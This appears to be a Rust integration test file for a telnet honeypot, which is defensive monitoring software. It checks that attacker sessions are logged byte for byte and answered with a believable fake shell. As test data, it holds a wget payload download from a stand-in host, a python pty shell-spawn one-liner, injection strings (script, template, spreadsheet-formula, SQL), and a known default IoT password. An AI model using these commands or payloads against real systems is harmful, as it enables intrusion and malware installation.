//! The telnet honeypot, as clients of all sorts meet it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::time::Duration;

use common::{Pot, bytes, command, commands, contains, login, none};
use serde_json::json;
use skep_model::{Bytes, Digest, Direction, InteractionKind, LoginMethod, Timestamp, limits};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::timeout,
};

use LoginMethod::Password;

struct Client {
    stream: TcpStream,
    seen: Vec<u8>,
}

impl Client {
    async fn connect(pot: &Pot) -> Self {
        let stream = TcpStream::connect(pot.address()).await.unwrap();
        Self {
            stream,
            seen: vec![],
        }
    }

    async fn say(&mut self, bytes: &[u8]) {
        self.stream.write_all(bytes).await.unwrap();
    }

    /// Reads until the text is there; returns everything up to it.
    async fn expect(&mut self, text: &str) -> Vec<u8> {
        loop {
            let found = self
                .seen
                .windows(text.len())
                .position(|window| window == text.as_bytes());
            if let Some(at) = found {
                return self.seen.drain(..at + text.len()).collect();
            }
            let mut buffer = [0; 4096];
            let read = timeout(Duration::from_secs(10), self.stream.read(&mut buffer)).await;
            let length = read.expect(text).unwrap();
            assert!(
                length > 0,
                "ended before {text}: {}",
                String::from_utf8_lossy(&self.seen)
            );
            self.seen.extend_from_slice(&buffer[..length]);
        }
    }

    async fn ended(&mut self) {
        let mut rest = vec![];
        let _ = timeout(Duration::from_secs(10), self.stream.read_to_end(&mut rest))
            .await
            .unwrap();
    }
}

#[tokio::test]
async fn a_session_is_recorded_letter_by_letter_while_it_lasts() {
    let mut pot = Pot::start("telnet", json!({"delay": 1, "hostname": "gate"})).await;
    let mut client = Client::connect(&pot).await;
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    client.expect("gate login: ").await;
    client.say(b"root\r\n").await;
    client.expect("Password: ").await;
    client.say(b"xc3511\r\n").await;
    assert_eq!(pot.step().await, login("root", "xc3511", Password, false));
    client.expect("Login incorrect\r\ngate login: ").await;
    client.say(b"ro\x7foot\r\x00123456\r\x00").await;
    let kind = InteractionKind::Data {
        direction: Direction::In,
        bytes: b"ro\x7foot\r".into(),
    };
    assert_eq!(pot.step().await, kind);
    assert_eq!(pot.step().await, login("root", "123456", Password, true));
    client.expect("root@gate:~# ").await;
    client.say(b"id; uname -a\n").await;
    assert_eq!(pot.deed().await, command("id; uname -a"));
    let shown = client.expect("root@gate:~# ").await;
    assert!(contains(
        &shown,
        b"uid=0(root) gid=0(root) groups=0(root)\r\nLinux gate "
    ));
    client.say(b"cd /tmp; wget http://192.0.2.9/x.sh\r\n").await;
    assert_eq!(
        pot.deed().await,
        command("cd /tmp; wget http://192.0.2.9/x.sh")
    );
    client.expect("root@gate:/tmp# ").await;
    client.say(b"exit\r\n").await;
    client.expect("logout").await;
    client.ended().await;
    let steps = pot.rest().await;
    assert_eq!(
        common::attributes(&steps, "url"),
        [b"http://192.0.2.9/x.sh"]
    );
    assert!(contains(
        &bytes(&steps, Direction::Out),
        b"192.0.2.9:80... failed"
    ));
    let mut digest = Digest::default();
    for step in &steps {
        digest.add(step);
    }
    assert!(digest.summary().ends_with(", 1 file or URL"));
    assert!(
        matches!(steps.last(), Some(InteractionKind::Close { reason, .. }) if reason == "logged out")
    );
}

#[tokio::test]
async fn what_a_command_reads_is_typed_until_control_d() {
    let mut pot = Pot::start("telnet", none()).await;
    let mut client = Client::connect(&pot).await;
    client.expect("login: ").await;
    client.say(b"root\r\nroot\r\n").await;
    client.expect(":~# ").await;
    client.say(b"cat > /tmp/x.sh\r\n").await;
    client.expect("x.sh\r\n").await;
    client
        .say(b"#!/bin/sh\r\n\techo one\r\necho typo\x15echo two\r\n\x04")
        .await;
    client.expect(":~# ").await;
    client.say(b"sh /tmp/x.sh\r\n").await;
    client.expect("one\r\ntwo\r\n").await;
    client.say(b"cat >> /tmp/x.sh\r\necho three\r\n\x03").await;
    client.expect(":~# ").await;
    client.say(b"read word; echo $word.\r\nhello\r\n").await;
    client.expect("hello.\r\n").await;
    client.expect(":~# ").await;
    client.say(b"sh /tmp/x.sh\r\n").await;
    client.expect("one\r\ntwo\r\nroot@").await;
    client.say(b"\x04").await;
    client.ended().await;
    pot.opened().await;
    let steps = pot.rest().await;
    assert_eq!(
        commands(&steps),
        [
            b"cat > /tmp/x.sh".as_slice(),
            b"sh /tmp/x.sh",
            b"cat >> /tmp/x.sh",
            b"read word; echo $word.",
            b"sh /tmp/x.sh",
        ]
    );
    let typed = bytes(&steps, Direction::In);
    assert!(contains(&typed, b"#!/bin/sh\r\techo one\recho typo\x15"));
}

/// What a command prints in a new shell.
async fn printed(pot: &Pot, line: &str) -> String {
    let mut client = Client::connect(pot).await;
    client.expect("login: ").await;
    client.say(b"root\r\nroot\r\n").await;
    client.expect(":~# ").await;
    client.say(format!("{line}\r\n").as_bytes()).await;
    client.expect(&format!("{line}\r\n")).await;
    let answer = client.expect("root@").await;
    let text = String::from_utf8(answer).unwrap();
    text.trim_end_matches("root@").trim_end().to_owned()
}

#[tokio::test]
async fn all_that_tells_of_the_start_tells_of_the_same() {
    let pot = Pot::start("telnet", none()).await;
    let booted = printed(&pot, "grep btime /proc/stat | cut -d' ' -f2").await;
    let booted: i64 = booted.parse().unwrap();
    let up = printed(&pot, "cut -d. -f1 /proc/uptime").await;
    let up: i64 = up.parse().unwrap();
    let since = Timestamp::now().0 / 1000 - up;
    assert!((booted - since).abs() <= 2, "{booted} {since}");

    let text = Timestamp(booted * 1000).to_rfc3339();
    let (day, time) = (&text[..10], &text[11..19]);
    assert_eq!(printed(&pot, "uptime -s").await, format!("{day} {time}"));
    let days = format!(" up {} days, ", up / 86_400);
    for line in ["uptime", "w | head -n 1", "top | head -n 1"] {
        let shown = printed(&pot, line).await;
        assert!(shown.contains(&days), "{line}: {shown}");
    }
    let last = printed(&pot, "last | grep reboot").await;
    assert!(last.contains(&time[..5]), "{last}");
    let this_year = Timestamp::now().to_rfc3339()[..4] == day[..4];
    let date = if this_year { &day[8..] } else { &day[..4] };
    for line in ["ps aux | grep sbin/init", "ps -ef | grep sbin/init"] {
        let shown = printed(&pot, line).await;
        let first = shown.lines().next().unwrap();
        assert!(
            first.split_whitespace().any(|word| word.ends_with(date)),
            "{date}: {first}"
        );
        assert!(
            !first.contains("Jun14") || day.ends_with("06-14"),
            "{first}"
        );
    }
}

#[tokio::test]
async fn an_interpreter_and_editors_begin() {
    let mut pot = Pot::start("telnet", none()).await;
    let mut client = Client::connect(&pot).await;
    client.expect("login: ").await;
    client.say(b"root\r\nroot\r\n").await;
    client.expect(":~# ").await;
    for (line, answer) in [
        ("python3 --version", "Python 3.10.12\r\n"),
        (
            "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'; echo $?",
            "0\r\n",
        ),
        (
            "python3 x.py",
            "python3: can't open file '/root/x.py': [Errno 2] No such file or directory\r\n",
        ),
        ("nano x", "Error opening terminal: xterm.\r\n"),
        ("vi x", "E437: Terminal capability \"cm\" required\r\n"),
    ] {
        client.say(format!("{line}\r\n").as_bytes()).await;
        client.expect(&format!("{line}\r\n{answer}root@")).await;
    }
    client.say(b"python3\r\n").await;
    client.expect("Python 3.10.12 (main").await;
    client.expect(">>> ").await;
    client.say(b"import os\r\n").await;
    client.expect("\r\n>>> ").await;
    client.say(b"exit()\r\n").await;
    client.expect("exit()\r\nroot@").await;
    drop(client);
    pot.opened().await;
    let steps = pot.rest().await;
    assert_eq!(commands(&steps).len(), 6);
    assert!(contains(
        &bytes(&steps, Direction::In),
        b"import os\rexit()\r"
    ));
}

#[tokio::test]
async fn an_address_is_pinged_and_no_name_is_known() {
    let pot = Pot::start("telnet", none()).await;
    let mut client = Client::connect(&pot).await;
    client.expect("login: ").await;
    client.say(b"root\r\nroot\r\n").await;
    client.expect(":~# ").await;
    client.say(b"ping 8.8.8.8 -c 1\r\n").await;
    let answer = client.expect(":~# ").await;
    assert!(contains(
        &answer,
        b"PING 8.8.8.8 (8.8.8.8) 56(84) bytes of data.\r\n\r\n--- 8.8.8.8 ping statistics ---\r\n\
        1 packets transmitted, 0 received, 100% packet loss"
    ));
    client
        .say(b"ping -c1 localhost; ping example.net\r\n")
        .await;
    let answer = client.expect(":~# ").await;
    assert!(contains(&answer, b"64 bytes from 127.0.0.1: icmp_seq=1"));
    let unknown = b"ping: example.net: Temporary failure in name resolution";
    assert!(contains(&answer, unknown));
}

#[tokio::test]
async fn hostile_bytes_are_recorded_exactly() {
    let mut pot = Pot::start("telnet", json!({"delay": 0})).await;
    let mut client = Client::connect(&pot).await;
    let user = b"<script>alert(1)</script>\x00\xfe\xe2\x80\xae\x1b[31m=cmd|'/c'!A1";
    let secret = b"{{7*7}}\t\x01\x02\xf0\x28\x8c\x28\"';--";
    client
        .say(&[user.as_slice(), b"\r\n", secret, b"\r\nroot\nroot\n"].concat())
        .await;
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    let kind = InteractionKind::Login {
        user: Bytes(user.to_vec()),
        secret: Bytes(secret.to_vec()),
        method: Password,
        accepted: false,
    };
    assert_eq!(pot.step().await, kind);
    assert_eq!(pot.step().await, login("root", "root", Password, true));
    let line = b"echo \x00\xfe\xe2\x80\xae <b> \x1b[31m".as_slice();
    // A byte 255 is written twice.
    client.say(&[line, b"\xff\xff\r\n"].concat()).await;
    let sent = [line, b"\xff"].concat();
    let mut steps = vec![];
    while commands(&steps).is_empty() {
        steps.push(pot.step().await);
    }
    assert_eq!(commands(&steps), std::slice::from_ref(&sent));
    assert_eq!(
        bytes(&steps, Direction::In),
        [sent.as_slice(), b"\r"].concat()
    );
}

/// What hydra, inetutils and bots of all sorts end a line with.
#[tokio::test]
async fn every_byte_of_a_login_is_recorded_whatever_ends_the_line() {
    let mut pot = Pot::start("telnet", json!({"delay": 0})).await;
    let all: Vec<u8> = (0..=255).filter(|b| !b"\n\r\x08\x7f".contains(b)).collect();
    for end in [b"\r\0".as_slice(), b"\r\n", b"\n", b"\r"] {
        let mut client = Client::connect(&pot).await;
        client.expect("login: ").await;
        // A byte 255 is written twice.
        let sent: Vec<u8> = all
            .iter()
            .flat_map(|&b| std::iter::repeat_n(b, if b == 255 { 2 } else { 1 }))
            .collect();
        client.say(&[&sent, end].concat()).await;
        client.expect("Password: ").await;
        client
            .say(&[b"\xff\xff\xff\xff\x01".as_slice(), end].concat())
            .await;
        client.expect("incorrect").await;
        // A NUL that does not belong to the line's end is part of the next line.
        client.say(&[b"a\0", end, b"\xc3(", end].concat()).await;
        client.expect("incorrect").await;
        drop(client);
        pot.opened().await;
        let steps = pot.rest().await;
        let tried = |user: &[u8], secret: &[u8]| InteractionKind::Login {
            user: Bytes(user.to_vec()),
            secret: Bytes(secret.to_vec()),
            method: Password,
            accepted: false,
        };
        let logins: Vec<_> = steps
            .into_iter()
            .filter(|kind| matches!(kind, InteractionKind::Login { .. }))
            .collect();
        assert_eq!(
            logins,
            [tried(&all, b"\xff\xff\x01"), tried(b"a\0", b"\xc3(")],
            "{end:?}"
        );
    }
}

#[tokio::test]
async fn lines_of_a_megabyte_are_cut_and_counted() {
    let mut pot = Pot::start("telnet", json!({"delay": 0})).await;
    let mut client = Client::connect(&pot).await;
    let long = vec![b'A'; 1024 * 1024];
    client.say(&long).await;
    client.say(b"\r\nsecret\r\nroot\r\nroot\r\n").await;
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    let InteractionKind::Login { user, secret, .. } = pot.step().await else {
        panic!("no login")
    };
    assert_eq!(
        (user.0.len(), secret.0.as_slice()),
        (limits::VALUE, b"secret".as_slice())
    );
    let text = format!("cut to {} of {} bytes", limits::VALUE, long.len());
    assert_eq!(pot.step().await, InteractionKind::Note { text });
    assert_eq!(pot.step().await, login("root", "root", Password, true));
    client.expect("# ").await;
    let (mut read, mut write) = client.stream.into_split();
    let drain = tokio::spawn(async move {
        let mut rest = vec![];
        let _ = read.read_to_end(&mut rest).await;
    });
    write.write_all(&long).await.unwrap();
    write.write_all(b"\r\nexit\r\n").await.unwrap();
    let steps = pot.rest().await;
    assert_eq!(
        commands(&steps).iter().map(Vec::len).collect::<Vec<_>>(),
        [limits::VALUE, 4]
    );
    drain.await.unwrap();
}

#[tokio::test]
async fn a_client_that_negotiates_is_answered() {
    let mut pot = Pot::start("telnet", none()).await;
    let mut client = Client::connect(&pot).await;
    client.say(b"\xff\xfb\x18\xff\xfb\x1f\xff\xfa\x1f\x00\x84\x00\x2b\xff\xf0\xff\xfa\x18\x00xterm-256color\xff\xf0").await;
    client.say(b"\xff\xfd\x01\xff\xfd\x03\xff\xfd\x2a").await;
    pot.opened().await;
    assert_eq!(pot.step().await, InteractionKind::Connect);
    let attribute = |name: &str, value: &str| InteractionKind::Attribute {
        name: name.into(),
        value: value.into(),
    };
    assert_eq!(pot.step().await, attribute("terminal", "132x43"));
    assert_eq!(
        pot.step().await,
        attribute("terminal_type", "xterm-256color")
    );
    client.say(b"half").await;
    let mut wanted = vec![];
    while !contains(&wanted, b"\xff\xfc\x2a") {
        let mut buffer = [0; 512];
        let length = client.stream.read(&mut buffer).await.unwrap();
        wanted.extend_from_slice(&buffer[..length]);
    }
    assert!(contains(&wanted, b"\xff\xfa\x18\x01\xff\xf0"));
    drop(client);
    let steps = pot.rest().await;
    assert_eq!(bytes(&steps, Direction::In), b"half");
}

#[tokio::test]
async fn guessing_ends_after_five_tries() {
    let mut pot = Pot::start("telnet", json!({"delay": 0})).await;
    let mut client = Client::connect(&pot).await;
    client.say(&b"root\r\nwrong\r\n".repeat(8)).await;
    client.ended().await;
    pot.opened().await;
    let steps = pot.rest().await;
    let tries = steps
        .iter()
        .filter(|kind| matches!(kind, InteractionKind::Login { .. }))
        .count();
    assert_eq!(tries, 5);
    assert!(
        matches!(steps.last(), Some(InteractionKind::Close { reason, .. }) if reason == "too many wrong passwords")
    );
}
